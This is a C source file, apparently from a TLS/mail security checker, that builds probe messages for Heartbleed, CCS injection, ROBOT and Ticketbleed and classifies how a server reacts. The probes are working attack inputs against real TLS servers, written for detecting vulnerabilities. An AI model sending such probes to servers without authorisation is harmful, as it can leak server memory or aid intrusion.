#include "check/attack.h"

#include "base/clean.h"
#include "base/err.h"

#include <assert.h>

enum {
	RECORD_CCS = 20,
	RECORD_ALERT = 21,
	RECORD_HANDSHAKE = 22,
	RECORD_HEARTBEAT = 24,
	HEADER_LEN = 5,
	ALERT_LEN = 2,
	CLIENT_KEY_EXCHANGE = 16,
	FINISHED_LEN = 40,
};

static int record_add(struct buf *out, uint8_t type, uint16_t version, struct slice body)
{
	uint8_t header[HEADER_LEN] = { type, (uint8_t)(version >> 8), (uint8_t)version,
		                       (uint8_t)(body.len >> 8), (uint8_t)body.len };
	int r = buf_add(out, slice_of(header, sizeof(header)));
	return r ? err_up(r) : err_up(buf_add(out, body));
}

/* A request that says it has 16 KiB, and has none (RFC 6520 4: to be dropped). */
static int heartbleed_write(const struct tls_answer *a, struct buf *out)
{
	static const uint8_t request[] = { 1, 0x40, 0x00 };
	if (!a->has_heartbeat)
		return CHECK_ATTACK_POINTLESS;
	return err_up(
		record_add(out, RECORD_HEARTBEAT, a->version, slice_of(request, sizeof(request))));
}

/* Who takes the first one reads the second with keys that anybody knows, and finds it broken. */
static int ccs_write(const struct tls_answer *a, struct buf *out)
{
	static const uint8_t change[] = { 1 };
	int r = record_add(out, RECORD_CCS, a->version, slice_of(change, 1));
	return r ? err_up(r) : err_up(record_add(out, RECORD_CCS, a->version, slice_of(change, 1)));
}

static int key_exchange_add(const struct tls_answer *a, struct slice cipher, struct buf *out)
{
	uint8_t header[6] = { CLIENT_KEY_EXCHANGE,
		              0,
		              (uint8_t)((cipher.len + 2) >> 8),
		              (uint8_t)(cipher.len + 2),
		              (uint8_t)(cipher.len >> 8),
		              (uint8_t)cipher.len };
	struct buf body = {};
	int r = buf_add(&body, slice_of(header, sizeof(header)));
	if (!r)
		r = buf_add(&body, cipher);
	if (!r)
		r = record_add(out, RECORD_HANDSHAKE, a->version, buf_slice(&body));
	buf_deinit(&body);
	return err_up(r);
}

static int robot_write(const struct tls_answer *a, enum tls_premaster how, struct buf *out)
{
	static const uint8_t change[] = { 1 }, finished[FINISHED_LEN] = { 0x5a };
	struct buf cipher = {};
	int r = tls_premaster_write(buf_slice(&a->chain), how, &cipher);
	if (r == TLS_PREMASTER_NO_KEY) {
		buf_deinit(&cipher);
		return CHECK_ATTACK_POINTLESS;
	}
	if (!r)
		r = key_exchange_add(a, buf_slice(&cipher), out);
	if (!r)
		r = record_add(out, RECORD_CCS, a->version, slice_of(change, 1));
	if (!r)
		r = record_add(out, RECORD_HANDSHAKE, a->version,
		               slice_of(finished, sizeof(finished)));
	buf_deinit(&cipher);
	return err_up(r);
}

int check_attack_write(enum check_attack attack, unsigned variant, const struct tls_answer *answer,
                       struct buf *out)
{
	if (answer->kind != TLS_ANSWER_HELLO || answer->has_alert)
		return CHECK_ATTACK_POINTLESS;
	switch (attack) {
	case CHECK_ATTACK_HEARTBLEED:
		return heartbleed_write(answer, out);
	case CHECK_ATTACK_CCS:
		return err_up(ccs_write(answer, out));
	case CHECK_ATTACK_ROBOT:
		assert(variant < TLS_PREMASTER_COUNT);
		return robot_write(answer, variant, out);
	case CHECK_ATTACK_TICKETBLEED: /* the hello was it */
	case CHECK_ATTACK_NONE:
	case CHECK_ATTACK_COUNT:
		break;
	}
	return CHECK_ATTACK_POINTLESS;
}

/* --- Ticketbleed --- */

enum {
	SESSION_ID_AT = HEADER_LEN + 4 + 2 + 32, /* of its length, in a hello's first record */
	SESSION_ID_LEN = 16,
	SESSION_ID_MAX = 32,
	EXTENSION_TICKET = 35,
};

static const uint8_t session_id[SESSION_ID_LEN] = "mailseal check.";

static size_t number16(struct slice s, size_t at)
{
	return at + 2 <= s.len ? (size_t)s.data[at] << 8 | s.data[at + 1] : SIZE_MAX / 2;
}

/* Where the length of all extensions stands; 0: this is no such hello. */
static size_t extensions_at(struct slice hello)
{
	size_t at = SESSION_ID_AT + 1;
	if (hello.len < at || hello.data[0] != RECORD_HANDSHAKE || hello.data[SESSION_ID_AT])
		return 0;
	at += 2 + number16(hello, at);
	if (at >= hello.len)
		return 0;
	at += 1 + (size_t)hello.data[at];
	return at + 2 <= hello.len && at + 2 + number16(hello, at) == hello.len ? at : 0;
}

static void number16_add(uint8_t *at, size_t more)
{
	size_t sum = ((size_t)at[0] << 8 | at[1]) + more;
	at[0] = (uint8_t)(sum >> 8);
	at[1] = (uint8_t)sum;
}

int check_attack_hello(struct slice hello, struct slice ticket, struct buf *out)
{
	uint8_t head[4] = { 0, EXTENSION_TICKET, (uint8_t)(ticket.len >> 8), (uint8_t)ticket.len };
	size_t extensions = extensions_at(hello), start = buf_len(out);
	size_t more = SESSION_ID_LEN + sizeof(head) + ticket.len;
	if (!extensions || !ticket.len || hello.len + more > 16384)
		return CHECK_ATTACK_POINTLESS;
	int r = buf_add(out, slice_head(hello, SESSION_ID_AT + 1));
	if (!r)
		r = buf_add(out, slice_of(session_id, sizeof(session_id)));
	if (!r)
		r = buf_add(out, slice_skip(hello, SESSION_ID_AT + 1));
	if (!r)
		r = buf_add(out, slice_of(head, sizeof(head)));
	if (!r)
		r = buf_add(out, ticket);
	if (r)
		return err_up(r);
	uint8_t *at = out->data + out->start + start;
	at[SESSION_ID_AT] = SESSION_ID_LEN;
	number16_add(at + 3, more); /* the record */
	number16_add(at + HEADER_LEN + 2,
	             more); /* the message, of whose three bytes these are two */
	number16_add(at + extensions + SESSION_ID_LEN, sizeof(head) + ticket.len);
	return 0;
}

void check_reaction_read_hello(struct check_reaction *ret_reaction, struct slice input)
{
	size_t id_at = SESSION_ID_AT + 1;
	*ret_reaction = (struct check_reaction){ .kind = CHECK_REACTION_SILENCE };
	if (input.len && input.data[0] != RECORD_HANDSHAKE) {
		check_reaction_read(ret_reaction, input);
		return;
	}
	if (input.len < id_at + SESSION_ID_MAX)
		return;
	bool is_ours = !memcmp(input.data + id_at, session_id, sizeof(session_id));
	bool is_longer = input.data[SESSION_ID_AT] > SESSION_ID_LEN;
	ret_reaction->kind = is_ours && is_longer ? CHECK_REACTION_BLED : CHECK_REACTION_OTHER;
	ret_reaction->is_whole = true;
}

void check_reaction_read(struct check_reaction *ret_reaction, struct slice input)
{
	*ret_reaction = (struct check_reaction){ .kind = CHECK_REACTION_SILENCE };
	if (input.len < HEADER_LEN)
		return;
	size_t len = (size_t)input.data[3] << 8 | input.data[4];
	switch (input.data[0]) {
	case RECORD_ALERT:
		if (input.len < HEADER_LEN + ALERT_LEN)
			return;
		ret_reaction->kind = CHECK_REACTION_ALERT;
		ret_reaction->alert = input.data[HEADER_LEN + 1];
		break;
	case RECORD_HEARTBEAT:
		ret_reaction->kind = CHECK_REACTION_HEARTBEAT;
		ret_reaction->len = len;
		break;
	default: /* a byte of the server's */
		ret_reaction->kind = CHECK_REACTION_OTHER;
		break;
	}
	ret_reaction->is_whole = true;
}

bool check_reaction_is_same(const struct check_reaction *a, const struct check_reaction *b)
{
	return a->kind == b->kind && a->alert == b->alert;
}
